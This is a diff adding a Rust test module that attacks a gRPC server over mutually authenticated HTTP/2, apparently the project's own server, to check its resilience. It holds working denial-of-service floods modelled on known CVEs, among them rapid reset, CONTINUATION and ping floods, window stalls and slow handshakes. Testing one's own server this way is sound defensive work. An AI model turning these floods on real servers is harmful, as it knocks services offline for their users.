@@ -1,0 +1,186 @@
+//! Attacks as raw HTTP/2 frames (RFC 9113) over TLS.
+#![allow(dead_code, unreachable_pub, missing_docs, clippy::unwrap_used, reason = "a part of a test")]
+
+use std::{net::SocketAddr, path::Path, sync::Arc, time::Duration};
+
+use rustls::{ClientConfig, RootCertStore};
+use rustls_pki_types::{CertificateDer, PrivateKeyDer, ServerName, pem::PemObject};
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::TcpStream,
+    time::Instant,
+};
+use tokio_rustls::{TlsConnector, client::TlsStream};
+
+const DATA: u8 = 0;
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const CONTINUATION: u8 = 9;
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+
+/// One way of wearing a server out.
+#[derive(Debug, Clone, Copy)]
+pub struct Attack {
+    pub name: &'static str,
+    /// Frames of one unit, given the next free stream id.
+    unit: fn(u32) -> Vec<u8>,
+    /// Sent once, after the preface.
+    opening: fn() -> Vec<u8>,
+    /// Connections at once.
+    connections: u32,
+    /// Silent TCP connections instead of frames.
+    silent: bool,
+}
+
+const fn frames(name: &'static str, opening: fn() -> Vec<u8>, unit: fn(u32) -> Vec<u8>) -> Attack {
+    Attack { name, unit, opening, connections: 1, silent: false }
+}
+
+/// What is tried. Sources: CVE-2023-44487 (rapid reset), CVE-2024-2758 family (CONTINUATION), CVE-2019-9511 to -9518 (the others).
+pub const ATTACKS: &[Attack] = &[
+    frames("ping flood", Vec::new, |_| frame(PING, 0, 0, &[0; 8])),
+    frames("settings flood", Vec::new, |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
+    frames("rapid reset", Vec::new, |id| {
+        [headers(id, END_HEADERS), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
+    }),
+    frames("continuation", || headers(1, 0), |_| frame(CONTINUATION, 0, 1, &[0; 1024])),
+    frames("empty data", || headers(1, END_HEADERS), |_| frame(DATA, 0, 1, &[])),
+    frames("open streams", Vec::new, |id| headers(id, END_HEADERS)),
+    // One byte of window per stream: answers can never leave.
+    frames(
+        "tiny windows",
+        || frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]),
+        |id| [headers(id, END_HEADERS), frame(DATA, END_STREAM, id, &message(b"\x0a\x09members/-"))].concat(),
+    ),
+    frames("large bodies", Vec::new, |id| {
+        [headers(id, END_HEADERS), frame(DATA, 0, id, &[0xff; 16_000])].concat()
+    }),
+    // Streams that are opened and left, on more connections than the server has places for calls.
+    Attack { connections: 8, ..frames("places taken", Vec::new, |id| headers(id, END_HEADERS)) },
+    Attack { silent: true, ..frames("slow handshakes", Vec::new, |_| Vec::new()) },
+];
+
+/// What an attack did.
+#[derive(Debug, Default)]
+pub struct Sent {
+    pub units: u64,
+    /// Connections that the server ended.
+    pub ended: u64,
+}
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
+    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
+    bytes.extend_from_slice(&stream.to_be_bytes());
+    bytes.extend_from_slice(payload);
+    bytes
+}
+
+/// A request's header block in HPACK without any table (RFC 7541, section 6.2.2).
+fn headers(stream: u32, flags: u8) -> Vec<u8> {
+    let path = b"/allmende.v1.MemberService/ListBillTos";
+    let mut block = vec![0x83, 0x87, 0x04, u8::try_from(path.len()).unwrap()];
+    block.extend_from_slice(path);
+    block.extend_from_slice(b"\x01\x09localhost\x0f\x10\x10application/grpc\x00\x02te\x08trailers");
+    frame(HEADERS, flags, stream, &block)
+}
+
+fn message(body: &[u8]) -> Vec<u8> {
+    let mut bytes = vec![0];
+    bytes.extend_from_slice(&u32::try_from(body.len()).unwrap().to_be_bytes());
+    bytes.extend_from_slice(body);
+    bytes
+}
+
+/// A member with a sound certificate and bad intent.
+pub struct Attacker {
+    address: SocketAddr,
+    config: Arc<ClientConfig>,
+}
+
+impl Attacker {
+    pub fn new(address: SocketAddr, ca: &Path, own: (&Path, &Path)) -> Self {
+        let chain = |path: &Path| CertificateDer::pem_file_iter(path).unwrap().map(Result::unwrap);
+        let mut roots = RootCertStore::empty();
+        chain(ca).for_each(|root| roots.add(root).unwrap());
+        let key = PrivateKeyDer::from_pem_file(own.1).unwrap();
+        let mut config = ClientConfig::builder()
+            .with_root_certificates(roots)
+            .with_client_auth_cert(chain(own.0).collect(), key)
+            .unwrap();
+        config.alpn_protocols = vec![b"h2".to_vec()];
+        Self { address, config: Arc::new(config) }
+    }
+
+    /// Attacks for `limit`; a connection that the server ends is made anew.
+    pub async fn run(&self, attack: &Attack, limit: Duration) -> Sent {
+        let until = Instant::now() + limit;
+        let mut all = Sent::default();
+        if attack.silent {
+            self.silent(until, &mut all).await;
+            return all;
+        }
+        let side_by_side = (0..attack.connections).map(|_| self.again(attack, until));
+        for sent in futures::future::join_all(side_by_side).await {
+            all.units += sent.units;
+            all.ended += sent.ended;
+        }
+        all
+    }
+
+    async fn again(&self, attack: &Attack, until: Instant) -> Sent {
+        let mut sent = Sent::default();
+        while Instant::now() < until {
+            if let Ok(stream) = self.connect().await
+                && tokio::time::timeout_at(until, flood(stream, attack, &mut sent)).await.is_ok()
+            {
+                sent.ended += 1;
+            }
+        }
+        sent
+    }
+
+    async fn connect(&self) -> std::io::Result<TlsStream<TcpStream>> {
+        let socket = TcpStream::connect(self.address).await?;
+        TlsConnector::from(Arc::clone(&self.config))
+            .connect(ServerName::try_from("localhost").unwrap(), socket)
+            .await
+    }
+
+    /// Connections that never say a word; fewer than the server's handshakes at once, so that it is its time limit that matters, not
+    /// its queue.
+    async fn silent(&self, until: Instant, sent: &mut Sent) {
+        let mut held = Vec::new();
+        for _ in 0..200 {
+            held.extend(TcpStream::connect(self.address).await);
+            sent.units += 1;
+        }
+        tokio::time::sleep_until(until).await;
+    }
+}
+
+/// Sends units until the connection ends; what the server sends is read and thrown away.
+async fn flood(stream: TlsStream<TcpStream>, attack: &Attack, sent: &mut Sent) {
+    let (mut reader, mut writer) = tokio::io::split(stream);
+    let sink = async {
+        let mut buffer = [0; 16 << 10];
+        while reader.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
+    };
+    let source = async {
+        let preface =
+            [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &[]), (attack.opening)()];
+        writer.write_all(&preface.concat()).await?;
+        for id in (3..i32::MAX.unsigned_abs()).step_by(2) {
+            writer.write_all(&(attack.unit)(id)).await?;
+            sent.units += 1;
+        }
+        Ok::<_, std::io::Error>(())
+    };
+    tokio::select! {
+        () = sink => {}
+        _ = source => {}
+    }
+}
